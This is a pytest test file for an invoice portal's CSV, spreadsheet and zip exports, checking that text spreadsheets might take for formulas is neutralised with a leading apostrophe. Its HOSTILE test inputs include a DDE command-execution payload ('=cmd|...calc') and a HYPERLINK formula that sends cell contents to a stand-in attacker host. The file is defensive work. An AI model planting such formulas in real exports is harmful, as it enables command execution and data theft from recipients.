"""What customers take away: CSV that no spreadsheet takes for formulas, one workbook, one zip file."""

import csv
import datetime
import io
import os
import re
import subprocess
import sys
import tempfile
import unicodedata
import warnings
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from defusedxml import ElementTree
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import Cell, MergedCell
from openpyxl.worksheet.worksheet import Worksheet

from portalgen import downloads
from portalgen.downloads import archive, csv_files, neutralised, workbook
from portalgen.errors import PortalgenError
from portalgen.model import Bundle, Line, Transaction
from portalgen.plain import plain_text
from portalgen.tables import Value, tables_of
from tests.samples import PORTALS, bundle, invoice

XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "@SUM(1)",
    "\uff1d1",
    " -2+3",
    "a;=1",
    'a";"=1&"',
    "a\n=1\nb",
    "- one\n- two",
    "a\t+1",
    "<r><t>x</t></r>",
    "<r></si></r>",
    "_x0041_",
    "&amp;<b>",
    "0012",
    "1234567890123456789",
    "1E5",
    "https://evil.example",
    "mailto:a@b.example",
    "2026-01-01",
    "TRUE",
    "{=1}",
    "'=1",
    '"',
]
TEXTS = st.one_of(
    st.sampled_from(HOSTILE), st.text(max_size=12), st.text(f"{SIGNS}a1 ,;\t\n\r\"'\xa0\u200e", max_size=9)
)
NUMBERS = st.one_of(
    st.decimals(-(10**9), 10**9, allow_nan=False, allow_infinity=False, places=6),
    st.decimals(-(10**22), 10**22, allow_nan=False, allow_infinity=False, places=3),
)
DATES = st.dates(min_value=datetime.date(1899, 1, 1))


@st.composite
def documents(draw: st.DrawFn) -> Transaction:
    amounts = {name: draw(st.none() | NUMBERS) for name in ("net", "tax", "total", "balance", "paid")}
    texts = {name: draw(TEXTS) for name in ("number", "status", "reference", "note", "branch", "order_number")}
    lines = tuple(
        Line(
            line=draw(st.integers(-(10**18), 10**18)),
            item=draw(TEXTS),
            description=draw(TEXTS),
            quantity=draw(st.none() | NUMBERS),
            unit_price=draw(st.none() | NUMBERS),
        )
        for _ in range(draw(st.integers(0, 2)))
    )
    currency = draw(st.sampled_from(["USD", "JPY", "KWD"]))
    day = draw(DATES)
    return invoice(**texts, **amounts, date=day, currency=currency, lines=lines)  # type: ignore[arg-type]


BUNDLES = st.lists(documents(), min_size=1, max_size=3).map(bundle)


def english(text: str) -> str:
    return text


def noted(*notes: str) -> Bundle:
    """A bundle of documents with these notes."""
    return bundle([invoice(f"INV-{place}", note=note) for place, note in enumerate(notes)])


class TestCsv:
    def test_the_bytes_of_a_file(self) -> None:
        """RFC 4180: CRLF after each row, quotes doubled; a byte order mark first; text in quotes, all else bare."""
        document = invoice('A "B", C', status="", due_date=None, note="two\nlines", net=None, balance=Decimal(-5))
        files = dict(csv_files(bundle([document]), english))
        assert list(files) == ["invoices.csv", "invoices-lines.csv"]
        assert files["invoices.csv"] == (
            b'\xef\xbb\xbf"Number","Date","Currency","Tax","Total","Balance due","Note"\r\n'
            b'"A ""B"", C",2026-11-05,"USD",19.00,119.00,-5.00,"two\nlines"\r\n'
        )
        assert files["invoices-lines.csv"].decode("utf-8-sig") == (
            '"Invoice","Date","Line","Item","Description","Quantity","Unit","Unit price","Tax rate (%)","Amount",'
            '"Currency"\r\n'
            '"A ""B"", C",2026-11-05,1,"SKU-1","Widget",2,"pcs",50.00,19,100.00,"USD"\r\n'
        )

    def test_an_empty_cell_is_empty(self) -> None:
        data = dict(csv_files(noted("x", ""), english))["invoices.csv"]
        assert [row[-1] for row in read(data)] == ["Note", "x", ""]
        assert data.endswith(b",\r\n")

    @settings(deadline=None)
    @given(BUNDLES)
    @example(PORTALS["brilliant"])
    @example(PORTALS["qamar"])
    def test_each_value_is_read_as_it_is_in_the_bundle(self, whole: Bundle) -> None:
        files, tables = dict(csv_files(whole, english)), list(tables_of(whole, english))
        assert list(files) == [f"{table.name}.csv" for table in tables]
        for table in tables:
            headings, *rows = read(files[f"{table.name}.csv"])
            assert headings == list(table.headings)
            assert [row[1:] for row in rows] == [[in_csv(value) for value in row[1:]] for row in table.rows]
            assert [row[0].removeprefix("'") for row in rows] == [
                in_csv(row[0]).removeprefix("'") for row in table.rows
            ]

    @settings(deadline=None)
    @given(BUNDLES)
    def test_no_cell_is_a_formula_whatever_parts_the_cells(self, whole: Bundle) -> None:
        for data in dict(csv_files(whole, english)).values():
            for separator in ",;\t\u061b\u060c":
                assert [cell for row in read(data, separator) for cell in row if is_formula(cell)] == []

    @settings(deadline=None)
    @given(BUNDLES)
    def test_no_cell_is_a_formula_to_a_reader_who_knows_no_quotes(self, whole: Bundle) -> None:
        """Unless they part cells at commas: no spreadsheet does both before it is told to."""
        for data in dict(csv_files(whole, english)).values():
            cells = re.split("[;\t\r\n\u061b\u060c]", data.decode("utf-8-sig"))
            assert [cell for cell in cells if is_formula(cell)] == []

    def test_a_row_that_starts_with_a_negative_number_is_none_as_a_whole(self) -> None:
        """All of it is one cell to a reader who parts cells at semicolons."""
        headings, row = read(dict(csv_files(bundle([invoice("-17", reference="-17")]), english))["invoices.csv"])
        cells = dict(zip(headings, row, strict=True))
        assert (cells["Number"], cells["Your reference"]) == ("'-17", "-17")

    def test_headings_are_neutralised_too(self) -> None:
        data = dict(csv_files(bundle([invoice()]), lambda text: f"={text}"))["invoices.csv"]
        assert read(data)[0][0] == "'=Number"


SEEN = "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2"
"""Signs of Arabic and Syriac that Unicode counts as format characters."""
UNSEEN = "".join(
    character
    for character in map(chr, range(0x10000))
    if character.isspace() or (unicodedata.category(character) in {"Cc", "Cf"} and character not in SEEN)
)


def read(data: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def in_csv(value: Value) -> str:
    match value:
        case str():
            return neutralised(value)
        case Decimal():
            return f"{value:f}"
        case _:
            return "" if value is None else str(value)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate a cell of a CSV file."""
    seen = cell.lstrip(UNSEEN)
    return seen.startswith(tuple(SIGNS)) and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell, re.ASCII)


class TestNeutralised:
    @pytest.mark.parametrize(
        ("text", "safe"),
        [
            ("=1+1", "'=1+1"),
            ("+49 30 1234", "'+49 30 1234"),
            ("-", "'-"),
            ("- bullet", "'- bullet"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\uff1d1", "'\uff1d1"),
            ("\uff0b1", "'\uff0b1"),
            ("\uff0d1", "'\uff0d1"),
            ("\uff20x", "'\uff20x"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("\nx", "'\nx"),
            (" =1", "' =1"),
            (" \tx", "' \tx"),
            ("\xa0\u3000=1", "'\xa0\u3000=1"),
            ("\0=1", "'\0=1"),
            ("\x1f=1", "'\x1f=1"),
            ("\ufeff\u200e\u2066=1", "'\ufeff\u200e\u2066=1"),
            ("-12.50abc", "'-12.50abc"),
            ("-1.", "'-1."),
            ("-.5", "'-.5"),
            ("+12.50", "'+12.50"),
            ("-1,50", "'-1,50"),
            ("-12.50\n", "'-12.50\n"),
            ("-\u0661", "'-\u0661"),
            ("-1E5", "'-1E5"),
            ("--1", "'--1"),
        ],
    )
    def test_a_start_that_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(self, text: str, safe: str) -> None:
        assert neutralised(text) == safe

    @pytest.mark.parametrize(
        ("text", "safe"),
        [
            ("a;=1+1", "a;'=1+1"),
            ("a; -5 %", "a; '-5 %"),
            (";=1", ";'=1"),
            ("a;b;@x;c", "a;b;'@x;c"),
            ("a\n=1", "a\n'=1"),
            ("a\r\n\r\n+1", "a\r\n\r\n'+1"),
            ("a\t\uff1d1", "a\t'\uff1d1"),
            ('a;"=1+1"', 'a;"\'=1+1"'),
            ('a";"" =1', 'a";"" \'=1'),
            ("a\u061b=1", "a\u061b'=1"),
            ("a\u060c=1", "a\u060c'=1"),
            ("=1;=2", "'=1;'=2"),
            ("\n=1", "'\n'=1"),
            ("Widget\n- red\n- blue", "Widget\n'- red\n'- blue"),
        ],
    )
    def test_so_does_one_after_what_some_region_takes_for_a_separator(self, text: str, safe: str) -> None:
        assert neutralised(text) == safe

    @pytest.mark.parametrize(
        "text",
        [
            *("", "INV-1", "a=b", "a -5 %", "x@example.com", "5,-", "Smith, -5", "a, =1", 'a "=" b', "a;b", "a;'=1"),
            *(
                "-12.50",
                "-0",
                "12",
                "0012",
                "-1234567890123456789",
                "'=1",
                "#1",
                "a|=1",
                "\u2212",
                "a\nb",
                "\u2013 dash",
            ),
        ],
    )
    def test_any_other_text_and_every_number_stays(self, text: str) -> None:
        assert neutralised(text) == text

    @given(TEXTS)
    def test_nothing_changes_unless_a_part_is_a_formula(self, text: str) -> None:
        _, *others = re.split("[;\t\r\n\u061b\u060c]", text)
        starts = text.lstrip("".join(set(UNSEEN) - set("\t\r\n")))
        whole_is = starts.startswith(("\t", "\r", "\n")) or is_formula(text)
        part_is = any(part.lstrip(f'{UNSEEN}"').startswith(tuple(SIGNS)) for part in others)
        assert (neutralised(text) != text) == (whole_is or part_is)

    @given(TEXTS)
    def test_apostrophes_are_all_that_is_added_and_they_are_added_once(self, text: str) -> None:
        safe = neutralised(text)
        assert safe.replace("'", "") == text.replace("'", "")
        assert neutralised(safe) == safe
        assert not is_formula(safe)

    @given(NUMBERS)
    def test_numbers_are_untouched(self, number: Decimal) -> None:
        assert neutralised(f"{number:f}") == f"{number:f}"

    @pytest.mark.parametrize("text", ["\t" * 200_000, '";' * 100_000, " " * 200_000 + "x", "\n " * 100_000 + "x"])
    def test_the_longest_text_takes_no_longer_per_character(self, text: str) -> None:
        """A search that starts anew at each character would take minutes here."""
        assert neutralised(text).endswith(text)


def opened(data: bytes) -> openpyxl.Workbook:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return openpyxl.load_workbook(io.BytesIO(data))


def invoices_of(whole: Bundle, **options: bool) -> Worksheet:
    sheet = opened(workbook(whole, english, **options))["Invoices"]
    assert isinstance(sheet, Worksheet)
    return sheet


def cell_below(heading: str, **values: object) -> Cell | MergedCell:
    """A cell of the workbook of an invoice with these values."""
    sheet = invoices_of(bundle([invoice(**values)]))  # type: ignore[arg-type]
    (column,) = [cell.column for cell in sheet[1] if cell.value == heading]
    return sheet.cell(2, column)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as whole:
        return {info.filename: whole.read(info) for info in whole.infolist()}


def numbers_written(data: bytes, sheet: int) -> dict[str, str]:
    """By their places, the numbers of a sheet (1 is the first) as the file has them, dates among them."""
    cells = ElementTree.fromstring(parts_of(data)[f"xl/worksheets/sheet{sheet}.xml"]).iter(f"{XML}c")
    return {cell.attrib["r"]: cell.findtext(f"{XML}v") or "" for cell in cells if "t" not in cell.attrib}


def in_workbook(value: Value) -> Value:
    match value:
        case datetime.date() if value < datetime.date(1900, 3, 1):
            return value.isoformat()
        case Decimal() | int() if len(f"{Decimal(value):f}".replace(".", "").strip("-0")) > 15:
            return f"{Decimal(value):f}"
        case _:
            return value or None if isinstance(value, str) else value


def read_back(cell: Cell | MergedCell, numbers: dict[str, str]) -> Value:
    match cell.value:
        case datetime.datetime():
            return cell.value.date()
        case int() | float() if cell.data_type == "n":
            number = Decimal(numbers[cell.coordinate])
            assert Decimal(f"{cell.value:.15G}") == number, "a spreadsheet shows the digits that the file has"
            return number
        case None | str():
            return cell.value
        case _:
            raise AssertionError(f"{cell.value!r} is neither text nor a number nor a day")


class TestWorkbook:
    @settings(max_examples=60, deadline=None)
    @given(BUNDLES)
    @example(PORTALS["brilliant"])
    @example(PORTALS["qamar"])
    @example(noted(*HOSTILE))
    def test_each_value_is_read_as_it_is_in_the_bundle(self, whole: Bundle) -> None:
        data, tables = workbook(whole, english), list(tables_of(whole, english))
        book = opened(data)
        assert book.sheetnames == [table.title for table in tables]
        for place, table in enumerate(tables, start=1):
            numbers = numbers_written(data, place)
            headings, *rows = book[table.title].iter_rows()
            assert [cell.value for cell in headings] == list(table.headings)
            read = [[read_back(cell, numbers) for cell in row] for row in rows]
            assert read == [[in_workbook(value) for value in row] for row in table.rows]

    def test_nothing_is_a_formula_or_a_link(self) -> None:
        parts = parts_of(workbook(noted(*HOSTILE), english))
        sheets = [body for name, body in parts.items() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        assert not any(tag in body for body in sheets for tag in (b"<f>", b"<f ", b"hyperlink"))
        assert not [name for name in parts if name.startswith("xl/worksheets/_rels")]

    @pytest.mark.parametrize("note", HOSTILE)
    def test_text_is_text_and_stays_text_when_it_is_edited(self, note: str) -> None:
        cell = cell_below("Note", note=note)
        assert (cell.value, cell.data_type, cell.number_format) == (plain_text(note), "s", "@")

    @pytest.mark.parametrize(
        ("total", "currency", "value", "number_format"),
        [
            ("1234.5", "USD", 1234.5, "#,##0.00"),
            ("-1234.5", "JPY", -1235, "#,##0"),
            ("0", "KWD", 0, "#,##0.000"),
            ("1234567890123.45", "USD", 1234567890123.45, "#,##0.00"),
            ("-100000000000000000000", "USD", -100000000000000000000, "#,##0.00"),
            ("12345678901234.56", "USD", "12345678901234.56", "@"),
            ("-12345678901234.56", "USD", "-12345678901234.56", "@"),
            ("1234567890123456", "JPY", "1234567890123456", "@"),
            ("0.1234567890123456", "USD", 0.12, "#,##0.00"),
        ],
    )
    def test_a_number_has_its_currencys_decimals_and_is_text_where_a_digit_would_be_lost(
        self, total: str, currency: str, value: object, number_format: str
    ) -> None:
        cell = cell_below("Total", total=Decimal(total), currency=currency)
        assert (cell.value, cell.number_format) == (value, number_format)

    @pytest.mark.parametrize(
        ("day", "value", "number_format"),
        [
            ("2026-11-05", datetime.date(2026, 11, 5), "yyyy-mm-dd"),
            ("1900-03-01", datetime.date(1900, 3, 1), "yyyy-mm-dd"),
            ("9999-12-31", datetime.date(9999, 12, 31), "yyyy-mm-dd"),
            ("1900-02-28", "1900-02-28", "@"),
            ("0999-12-31", "0999-12-31", "@"),
        ],
    )
    def test_a_day_is_a_day_since_march_1900(self, day: str, value: object, number_format: str) -> None:
        cell = cell_below("Date", date=datetime.date.fromisoformat(day))
        found = cell.value.date() if isinstance(cell.value, datetime.datetime) else cell.value
        assert (found, cell.number_format) == (value, number_format)

    def test_the_number_of_a_line_has_no_groups(self) -> None:
        sheet = opened(workbook(bundle([invoice(lines=(Line(1000),))]), english))["Invoices \u2013 Lines"]
        assert (sheet["C2"].value, sheet["C2"].number_format) == (1000, "0")

    @pytest.mark.parametrize(
        ("note", "kept"),
        [
            ("x" * 32_767, "x" * 32_767),
            ("x" * 32_768, "x" * 32_766 + "\u2026"),
            ("\U0001f600" * 16_383, "\U0001f600" * 16_383),
            ("\U0001f600" * 16_384, "\U0001f600" * 16_383 + "\u2026"),
            ("x" + "\U0001f600" * 16_384, "x" + "\U0001f600" * 16_382 + "\u2026"),
        ],
    )
    def test_text_that_is_longer_than_a_cell_is_cut_and_says_so(self, note: str, kept: str) -> None:
        """A spreadsheet counts UTF-16 units; it calls a file with a longer cell broken."""
        assert cell_below("Note", note=note).value == kept

    def test_headings_are_bold_and_stay_in_sight_and_each_column_has_a_filter(self) -> None:
        sheet = invoices_of(PORTALS["brilliant"])
        assert all(cell.font.bold and cell.number_format == "@" for cell in sheet[1])
        assert not any(cell.font.bold for cell in sheet[2])
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", sheet.dimensions)
        assert sheet.max_row == 4

    def test_columns_are_as_wide_as_what_is_in_them_up_to_a_limit(self) -> None:
        sheet = invoices_of(bundle([invoice("N" * 30, note="x\n" + "y" * 200, lines=())]))
        letters = {str(cell.value): cell.coordinate.rstrip("1") for cell in sheet[1]}
        widths = {heading: sheet.column_dimensions[letter].width for heading, letter in letters.items()}
        assert 30 < widths["Number"] < 36
        assert 10 < widths["Date"] < 15
        assert 8 < widths["Status"] < 11
        assert 55 < widths["Note"] < 62

    def test_numbers_stored_as_text_are_no_reason_for_a_warning(self) -> None:
        assert b'numberStoredAsText="1"' in parts_of(workbook(noted("0012"), english))["xl/worksheets/sheet1.xml"]

    @pytest.mark.parametrize("right_to_left", [True, False])
    def test_sheets_run_as_the_language_does(self, right_to_left: bool) -> None:
        sheet = invoices_of(PORTALS["qamar"], right_to_left=right_to_left)
        assert bool(sheet.sheet_view.rightToLeft) == right_to_left

    def test_more_rows_than_a_sheet_has_are_refused_instead_of_left_out(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(downloads, "_MOST_ROWS", 3)
        assert workbook(noted("a", "b"), english)
        with pytest.raises(PortalgenError, match="sample: invoices has more rows than a sheet"):
            workbook(noted("a", "b", "c"), english)

    def test_nothing_is_written_to_disk(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "nowhere"))
        assert workbook(PORTALS["brilliant"], english)


PAGES = [
    ("index.html", b'<a href="invoices/inv-1.html">' + b"x" * 1000),
    ("invoices/inv-1.html", b'<a href="../index.html">'),
    ("portal.xlsx", b"x" * 1000),
    ("invoices/inv-1.pdf", b""),
]


class TestArchive:
    def test_it_unpacks_to_the_same_tree_in_one_folder(self, tmp_path: Path) -> None:
        with zipfile.ZipFile(io.BytesIO(archive(PAGES, "northwind"))) as whole:
            assert whole.testzip() is None
            whole.extractall(tmp_path)
        assert [each.name for each in tmp_path.iterdir()] == ["northwind"]
        assert {path: (tmp_path / "northwind" / path).read_bytes() for path, _ in PAGES} == dict(PAGES)
        assert (tmp_path / "northwind/invoices" / "../index.html").is_file()

    def test_files_stand_in_their_order_without_times_and_owners(self) -> None:
        with zipfile.ZipFile(io.BytesIO(archive(iter(PAGES), "p"))) as whole:
            entries = whole.infolist()
        assert [entry.filename for entry in entries] == [f"p/{path}" for path, _ in PAGES]
        assert {entry.date_time for entry in entries} == {(1980, 1, 1, 0, 0, 0)}
        assert {(entry.create_system, oct(entry.external_attr >> 16)) for entry in entries} == {(3, "0o100644")}
        assert {(entry.extra, entry.comment) for entry in entries} == {(b"", b"")}

    def test_what_is_compressed_already_is_stored(self) -> None:
        with zipfile.ZipFile(io.BytesIO(archive(PAGES, "p"))) as whole:
            kinds = [entry.compress_type for entry in whole.infolist()]
            assert whole.getinfo("p/index.html").compress_size < 100
        deflated, stored = zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED
        assert kinds == [deflated, deflated, stored, stored]

    @pytest.mark.parametrize("ending", ["docx", "gif", "jpg", "ods", "odt", "pdf", "png", "webp", "xlsx", "zip"])
    def test_so_is_every_file_whose_kind_is_compressed(self, ending: str) -> None:
        with zipfile.ZipFile(io.BytesIO(archive([(f"a.{ending}", b"x" * 99)], "p"))) as whole:
            assert [entry.compress_type for entry in whole.infolist()] == [zipfile.ZIP_STORED]


DIGESTS = """
from hashlib import sha256
from portalgen.downloads import archive, csv_files, workbook
from tests.samples import PORTALS
for portal in PORTALS.values():
    files = [*csv_files(portal, str), ("portal.xlsx", workbook(portal, str))]
    for data in [*dict(files).values(), archive(files, "portal")]:
        print(sha256(data).hexdigest())
"""


def test_the_same_bundle_makes_the_same_bytes_in_every_process() -> None:
    """Whatever the seed of hashes, the zone and the time."""
    environments = [{"PYTHONHASHSEED": seed, "TZ": zone} for seed, zone in [("0", "UTC"), ("7", "Asia/Tokyo")]]
    root = Path(__file__).parents[1]
    outputs = [
        subprocess.run(
            [sys.executable, "-c", DIGESTS],
            cwd=root,
            env=os.environ | extra,
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for extra in environments
    ]
    assert len(outputs[0].split()) == 16
    assert outputs[0] == outputs[1]
